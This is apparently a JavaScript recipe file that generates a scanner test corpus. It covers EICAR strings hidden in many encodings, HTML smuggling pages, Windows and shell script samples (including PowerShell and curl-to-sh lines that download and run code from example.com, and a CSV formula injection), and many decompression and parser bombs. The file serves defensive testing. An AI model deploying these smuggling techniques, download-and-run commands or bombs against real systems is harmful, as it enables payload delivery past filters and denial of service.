/** Text and scripts, and bombs. */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { deflateRawSync, deflateSync, gunzipSync, gzipSync } from 'node:zlib';
import { be32, cat, crc32, le16, le32, utf16be, utf16le, wrap } from '../lib/bytes.mjs';
import { eicar, eicarText } from '../lib/eicar.mjs';
import { flate, pdf, stream } from '../lib/pdf.mjs';
import { png, pngChunk } from '../lib/stub.mjs';
import { tar } from '../lib/tar.mjs';
import { inFolder, run } from '../lib/tools.mjs';
import { zip, zipOf } from '../lib/zip.mjs';

const inner = () => zipOf('tool.com', eicar());

export function recipes(corpus) {
  texts(corpus);
  scripts(corpus);
  bombs(corpus);
}

function texts(corpus) {
  const add = (id, why, makeIt, more = {}) =>
    corpus.hostile(id, { format: 'text', family: 'plain', writer: 'hand', why, ...more }, makeIt);
  add('eicar.com', 'EICAR as it is', () => eicar());
  add('eicar.txt', 'EICAR called a text', () => eicar());
  add('eicar-newline.txt', 'EICAR and a line end', () => cat(eicar(), '\r\n'));
  add('eicar-blanks.com', 'EICAR and the blanks that its definition allows', () => cat(eicar(), ' '.repeat(60)));
  add('eicar-no-extension.dat', 'EICAR without an extension', () => eicar(), { name: 'upload' });
  add('eicar-as-picture.png', 'EICAR called a picture', () => eicar(), { name: 'photo.png' });
  add('eicar-utf16.txt', 'EICAR in UTF-16 with a mark', () => cat('\xff\xfe', utf16le(eicarText())), {
    family: 'text-encoding',
  });
  add('eicar-utf16-no-mark.txt', 'EICAR in UTF-16 without a mark', () => utf16le(eicarText()), {
    family: 'text-encoding',
  });
  add('eicar-utf16be.txt', 'EICAR in big-endian UTF-16', () => cat('\xfe\xff', utf16be(eicarText())), {
    family: 'text-encoding',
  });
  add('eicar-utf8-mark.txt', 'EICAR behind a UTF-8 mark', () => cat('\xef\xbb\xbf', eicar()), { family: 'prefixed' });
  add(
    'eicar-at-20-mb.txt',
    'EICAR behind 20 MB of text',
    () => cat(Buffer.from('The delivery comes on Thursday.\n'.repeat(625_000)), eicar()),
    { family: 'large' },
  );
  add('eicar.csv', 'EICAR in a cell', () => cat('name,value\r\n"', eicar().toString('latin1'), '",1\r\n'), {
    family: 'hiding',
  });
  add('eicar.json', 'EICAR in a string', () => Buffer.from(JSON.stringify({ x: eicarText() })), {
    family: 'hiding',
    arguable: true,
  });
  add(
    'eicar.html',
    'EICAR in a page: type detection turns the text to lower case',
    () => cat('<html><body>', eicar(), '</body></html>'),
    { family: 'hiding', format: 'html' },
  );
  add(
    'eicar-entities.html',
    'EICAR in character references',
    () => Buffer.from(`<html><body>${[...eicar()].map((c) => `&#${c};`).join('')}</body></html>`),
    { family: 'text-encoding', format: 'html', arguable: true },
  );
  add(
    'pem-zip.pem',
    'a ZIP in PEM armour',
    () =>
      Buffer.from(
        `-----BEGIN CERTIFICATE-----\n${wrap(inner().toString('base64'), 64, '\n')}\n-----END CERTIFICATE-----\n`,
      ),
    { family: 'text-encoding', format: 'pem' },
  );
  add(
    'data-uri.html',
    'a ZIP in a data URI',
    () =>
      Buffer.from(
        `<html><a download="a.zip" href="data:application/zip;base64,${inner().toString('base64')}">x</a></html>`,
      ),
    { family: 'text-encoding', format: 'html' },
  );
  add(
    'smuggling.html',
    'a page that puts an archive together in the browser',
    () =>
      Buffer.from(
        `<html><script>var d=atob("${inner().toString('base64')}");var b=new Blob([d]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="a.zip";a.click()</script></html>`,
      ),
    { family: 'active', format: 'html' },
  );
  add(
    'smuggling-xor.html',
    'the same with a key',
    () =>
      Buffer.from(
        `<html><script>var d=[${[...inner()].map((c) => c ^ 7)}].map(c=>c^7);var b=new Blob([new Uint8Array(d)]);location=URL.createObjectURL(b)</script></html>`,
      ),
    { family: 'active', format: 'html', hides: 'script' },
  );
  add(
    'smuggling-quoted.xhtml',
    'the same as XHTML',
    () =>
      Buffer.from(
        `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[var d=atob("${inner().toString('base64')}")]]></script></html>`,
      ),
    { family: 'active', format: 'xhtml' },
  );
  add(
    'certutil.txt',
    'a ZIP in the hexadecimal form that certutil reads',
    () => Buffer.from(`${wrap(inner().toString('hex'), 64, '\r\n')}\r\n`),
    { family: 'text-encoding', arguable: true },
  );
  add(
    'notebook.ipynb',
    'a ZIP in base64 as an output',
    () =>
      Buffer.from(
        JSON.stringify({
          nbformat: 4,
          nbformat_minor: 5,
          metadata: {},
          cells: [
            {
              cell_type: 'code',
              source: [],
              metadata: {},
              execution_count: 1,
              outputs: [
                { output_type: 'display_data', metadata: {}, data: { 'image/png': inner().toString('base64') } },
              ],
            },
          ],
        }),
      ),
    { family: 'text-encoding', format: 'ipynb', arguable: true },
  );
}

function scripts(corpus) {
  const add = (id, why, text, more = {}) =>
    corpus.hostile(
      id,
      { format: id.split('.').pop(), family: 'active', writer: 'hand', why, hides: 'script', ...more },
      () => Buffer.from(text, 'latin1'),
    );
  add('run.js', 'a script of Windows', 'new ActiveXObject("WScript.Shell").Run("calc")');
  add('run.vbs', 'a script of Windows', 'CreateObject("WScript.Shell").Run "calc"');
  add(
    'run.wsf',
    'a script of Windows',
    '<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("calc")</script></job>',
  );
  add(
    'run.hta',
    'a program in HTML',
    '<html><hta:application/><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>',
  );
  add('run.ps1', 'a script of PowerShell', 'iex ((New-Object Net.WebClient).DownloadString("http://example.com/a"))');
  add('run.bat', 'a batch file', '@echo off\r\nstart calc\r\n');
  add('run.sh', 'a shell script', '#!/bin/sh\ncurl http://example.com/a | sh\n');
  add(
    'run.lnk',
    'a shortcut that starts a program',
    'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F' + '\0'.repeat(56),
  );
  add(
    'run.url',
    'a shortcut into the web',
    '[InternetShortcut]\r\nURL=file://example.com/a.exe\r\nIconFile=\\\\example.com\\a.ico\r\n',
  );
  add(
    'run.reg',
    'changes to the registry',
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"x"="calc"\r\n',
  );
  add('run.iqy', 'a web query of Excel', 'WEB\r\n1\r\nhttp://example.com/a\r\n');
  add(
    'run.slk',
    'a spreadsheet of text that starts a program',
    'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC("calc")\r\nC;X1;Y2;EHALT()\r\nE\r\n',
  );
  add('run.csv', 'formulas that start a program', 'name,value\r\n"=cmd|\'/c calc\'!A1",1\r\n', { arguable: true });
  add(
    'run.jnlp',
    'a program of the web',
    '<?xml version="1.0"?><jnlp codebase="http://example.com/"><application-desc main-class="x"/></jnlp>',
  );
  add(
    'run.xsl',
    'a style sheet with a script',
    '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt" xmlns:u="u"><m:script implements-prefix="u" language="JScript">new ActiveXObject("WScript.Shell").Run("calc")</m:script></xsl:stylesheet>',
  );
  add('run.desktop', 'a starter of Linux', '[Desktop Entry]\nType=Application\nName=x\nExec=sh -c id\n');
  add('run.scf', 'a command of the explorer', '[Shell]\r\nCommand=2\r\nIconFile=\\\\example.com\\a.ico\r\n');
  add(
    'run.settingcontent-ms',
    'a setting that starts a program',
    '<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
  );
  add('run.ps', 'a program in PostScript', '%!PS\n(/tmp/x) (w) file pop\nshowpage\n');
}

function bombs(corpus) {
  const add = (id, format, why, makeIt, more = {}) =>
    corpus.hostile(id, { format, family: 'bomb', writer: 'hand', why, hides: 'bomb', ...more }, makeIt);
  const MB = 1_000_000;
  const zeros = (size) => cat(Buffer.alloc(size), eicar());
  add('bomb-zip-flat.zip', 'zip', 'a member of 300 MB with EICAR at its end', () =>
    zip([{ name: 'a', data: zeros(300 * MB) }]),
  );
  add('bomb-zip-130.zip', 'zip', 'a member of 130 MB with EICAR at its end', () =>
    zip([{ name: 'a', data: zeros(130 * MB) }]),
  );
  add('bomb-zip-lying-size.zip', 'zip', 'a member that says 1,000 bytes and unpacks to 200 MB', () =>
    zip([{ name: 'a', data: zeros(200 * MB), size: 1000 }]),
  );
  add('bomb-gz.gz', 'gz', '400 MB with EICAR at their end', () => gzipSync(zeros(400 * MB)), { writer: 'Node zlib' });
  add('bomb-gz-gz.gz', 'gz', '400 MB packed twice', () => gzipSync(gzipSync(zeros(400 * MB))), { writer: 'Node zlib' });
  const squeeze = (program, args, size) => () =>
    inFolder({}, async (cwd) => {
      await run('sh', ['-c', `head -c ${size} /dev/zero | ${[program, ...args].join(' ')} > out`], { cwd });
      return readFile(path.join(cwd, 'out'));
    });
  const need = async (program, makeIt) => {
    await run(program, ['--version'], { ok: [0, 1, 2] });
    return makeIt();
  };
  for (const [program, args, extension, size] of [
    ['bzip2', ['-c'], 'bz2', 300 * MB],
    ['xz', ['-1c'], 'xz', 300 * MB],
    ['zstd', ['-qc'], 'zst', 4000 * MB],
    ['lz4', ['-qc'], 'lz4', 1000 * MB],
    ['lzip', ['-1c'], 'lz', 200 * MB],
    ['brotli', ['-q', '5', '-c'], 'br', 500 * MB],
  ]) {
    add(`bomb.${extension}`, extension, `${size / MB} MB of zeros`, () => need(program, squeeze(program, args, size)), {
      writer: program,
    });
  }
  add('bomb-zip-nested.zip', 'zip', '10 members in each of 6 levels: a million files', () => {
    let data = Buffer.alloc(MB);
    for (let level = 0; level < 6; level++)
      data = zip(Array.from({ length: 10 }, (_, n) => ({ name: `${n}.zip`, data })));
    return data;
  });
  add(
    'bomb-zip-overlap.zip',
    'zip',
    'hundreds of directory entries share one packed member (as David Fifield described)',
    () => {
      const data = Buffer.alloc(20 * MB);
      const whole = zip([{ name: 'a', data }]);
      const at = whole.indexOf('PK\x01\x02', 0, 'latin1');
      const record = whole.subarray(at, at + 47);
      const count = 500;
      return cat(
        whole.subarray(0, at),
        Array.from({ length: count }, () => record),
        'PK\x05\x06',
        le32(0),
        le16(count),
        le16(count),
        le32(47 * count),
        le32(at),
        le16(0),
      );
    },
  );
  add(
    'bomb-zip-quoted-overlap.zip',
    'zip',
    "members that quote each other's headers in stored blocks (as David Fifield described)",
    quoted,
  );
  add('quine.gz', 'gz', "a gzip stream that unpacks to itself (by Russ Cox's method)", quine, { hides: 'bomb' });
  add('bomb-tar-gz-many.tar.gz', 'tar.gz', '200,000 empty files', () =>
    gzipSync(tar(Array.from({ length: 200_000 }, (_, n) => ({ name: `${n}` })))),
  );
  add(
    'bomb-png.png',
    'png',
    'a picture of 60,000 by 60,000 pixels',
    () =>
      cat(
        '\x89PNG\r\n\x1a\n',
        pngChunk('IHDR', cat(be32(60_000), be32(60_000), '\x01\0\0\0\0')),
        pngChunk('IDAT', deflateSync(Buffer.alloc(7501 * 60_000))),
        pngChunk('IEND', ''),
      ),
    { arguable: true },
  );
  add(
    'bomb-png-ztxt.png',
    'png',
    '200 MB in a packed text chunk',
    () => png({ before: [pngChunk('zTXt', cat('x\0\0', deflateSync(Buffer.alloc(200 * MB, 65))))] }),
    { arguable: true },
  );
  add('bomb-pdf-flate.pdf', 'pdf', 'a stream of 300 MB with EICAR at its end', () =>
    pdf({ more: { 40: flate(zeros(300 * MB), '/Type /EmbeddedFile') } }),
  );
  add('bomb-pdf-cascade.pdf', 'pdf', 'a stream packed three times, 400 MB', () =>
    pdf({
      more: {
        40: stream(
          deflateSync(deflateSync(deflateSync(Buffer.alloc(400 * MB)))),
          '/Filter [/FlateDecode /FlateDecode /FlateDecode]',
        ),
      },
    }),
  );
  add(
    'bomb-pdf-objects.pdf',
    'pdf',
    '100,000 objects',
    () => pdf({ more: Object.fromEntries(Array.from({ length: 100_000 }, (_, n) => [n + 10, 'null'])) }),
    { arguable: true },
  );
  add(
    'bomb-xml.xml',
    'xml',
    'entities that multiply',
    () =>
      Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">${[...'bcdefghij'].map((c, n) => `<!ENTITY ${c} "${`&${'abcdefghijk'[n]};`.repeat(10)}">`).join('')}]><l>&j;</l>`,
      ),
    { arguable: true },
  );
  add(
    'bomb-svg.svg',
    'svg',
    'references that multiply',
    () =>
      Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><g id="g0"><rect width="1" height="1"/></g>${Array.from({ length: 12 }, (_, n) => `<g id="g${n + 1}">${`<use xlink:href="#g${n}"/>`.repeat(10)}</g>`).join('')}</svg>`,
      ),
    { arguable: true },
  );
  add('bomb-json.json', 'json', '5,000,000 brackets', () => Buffer.from('['.repeat(5_000_000)), { arguable: true });
  add('bomb-html.html', 'html', '500,000 open elements', () => Buffer.from(`<html>${'<div>'.repeat(500_000)}`), {
    arguable: true,
  });
  add(
    'bomb-7z.7z',
    '7z',
    '1,000 MB of zeros',
    () =>
      inFolder({}, async (cwd) => {
        await run('sh', ['-c', `head -c ${1000 * MB} /dev/zero | 7zz a -mx1 -si a.7z`], { cwd });
        return readFile(path.join(cwd, 'a.7z'));
      }).catch(async (error) => {
        await run('7zz', ['i']);
        throw error;
      }),
    { writer: '7-Zip (7zz)' },
  );
}

/** 60 members over one kernel of 4 MB: each member's stream quotes the next header and goes on into it. */
function quoted() {
  const kernel = Buffer.alloc(4_000_000);
  const packed = deflateRawSync(kernel, { level: 9 });
  const names = Array.from({ length: 60 }, (_, n) => `${n}`.padStart(3, '0'));
  const header = (name, crc, packedSize, size) =>
    cat(
      'PK\x03\x04',
      le16(20),
      le16(0),
      le16(8),
      le16(0),
      le16(0x585d),
      le32(crc),
      le32(packedSize),
      le32(size),
      le16(3),
      le16(0),
      name,
    );
  const files = [];
  let rest = packed;
  let plain = kernel;
  for (const name of [...names].reverse()) {
    const own = header(name, crc32(plain), rest.length, plain.length);
    files.unshift({ name, crc: crc32(plain), packedSize: rest.length, size: plain.length });
    const quote = cat('\0', le16(own.length), le16(~own.length), own);
    rest = cat(quote, rest);
    plain = cat(own, plain);
    files[0].step = quote.length;
  }
  const body = rest.subarray(5);
  let offset = 0;
  const directory = files.map((file) => {
    const record = cat(
      'PK\x01\x02',
      le16(20),
      le16(20),
      le16(0),
      le16(8),
      le16(0),
      le16(0x585d),
      le32(file.crc),
      le32(file.packedSize),
      le32(file.size),
      le16(3),
      le16(0),
      le16(0),
      le16(0),
      le16(0),
      le32(0),
      le32(offset),
      file.name,
    );
    offset += file.step;
    return record;
  });
  const bytes = cat(directory);
  return cat(
    body,
    bytes,
    'PK\x05\x06',
    le32(0),
    le16(files.length),
    le16(files.length),
    le32(bytes.length),
    le32(body.length),
    le16(0),
  );
}

/**
 * A gzip stream that unpacks to itself, after Russ Cox, "Zip Files All The Way Down" (2010): literals (L) and repetitions (R) of
 * five bytes each. The checksum stands in the data that it is taken over; being affine in its own bits, it is solved for.
 */
function quine() {
  const literal = (length) => cat('\0', le16(length), le16(~length));
  const repeat = (length) => bits([[0, 1], [1, 2], ...copy(length / 2, length), ...copy(length / 2, length), [0, 7]]);
  const prefix = cat('\x1f\x8b\x08\x08', le32(0), '\0\x03', 'r.gz\0');
  const p = prefix.length + 5;
  const whole = (crc, size) => {
    const suffix = cat('\x01\0\0\xff\xff', le32(crc), le32(size));
    const s = suffix.length + 5;
    const [l1, l4, r4, rp, rs] = [literal(5), literal(20), repeat(20), repeat(p), repeat(s)];
    return cat(
      prefix,
      literal(p),
      prefix,
      literal(p),
      rp,
      l1,
      rp,
      l1,
      l1,
      l4,
      rp,
      l1,
      l1,
      l4,
      r4,
      l4,
      r4,
      l4,
      r4,
      l4,
      r4,
      l4,
      r4,
      literal(0),
      literal(0),
      literal(s),
      r4,
      literal(0),
      literal(0),
      literal(s),
      rs,
      suffix,
      rs,
      suffix,
    );
  };
  const size = whole(0, 0).length;
  const base = crc32(whole(0, size));
  const rows = Array.from({ length: 32 }, (_, row) => {
    let left = 0n;
    for (let column = 0; column < 32; column++) {
      const effect = (crc32(whole((1 << column) >>> 0, size)) ^ base) >>> 0;
      if ((((effect >>> row) & 1) ^ (column === row ? 1 : 0)) === 1) left |= 1n << BigInt(column);
    }
    return { left, right: (base >>> row) & 1 };
  });
  for (let column = 0; column < 32; column++) {
    const at = rows.findIndex((row, index) => index >= column && (row.left >> BigInt(column)) & 1n);
    if (at < 0) throw new Error('the checksum has no solution');
    [rows[column], rows[at]] = [rows[at], rows[column]];
    rows.forEach((row, index) => {
      if (index === column || !((row.left >> BigInt(column)) & 1n)) return;
      row.left ^= rows[column].left;
      row.right ^= rows[column].right;
    });
  }
  const crc = rows.reduce((value, row, index) => (value | (row.right << index)) >>> 0, 0);
  const data = whole(crc, size);
  if (!gunzipSync(data).equals(data)) throw new Error('the quine does not unpack to itself');
  return data;
}

/** Deflate's fixed codes for a copy of 9 or 10 bytes from 17 to 24 bytes back; Huffman codes go in from their highest bit. */
function copy(length, distance) {
  const huffman = (code, width) => Array.from({ length: width }, (_, n) => [(code >> (width - 1 - n)) & 1, 1]);
  return [...huffman(length - 2, 7), ...huffman(8, 5), [distance - 17, 3]];
}

function bits(fields) {
  const flat = fields.flatMap(([value, width]) => Array.from({ length: width }, (_, n) => (value >> n) & 1));
  const out = Buffer.alloc(Math.ceil(flat.length / 8));
  flat.forEach((bit, index) => (out[index >> 3] |= bit << (index & 7)));
  return out;
}
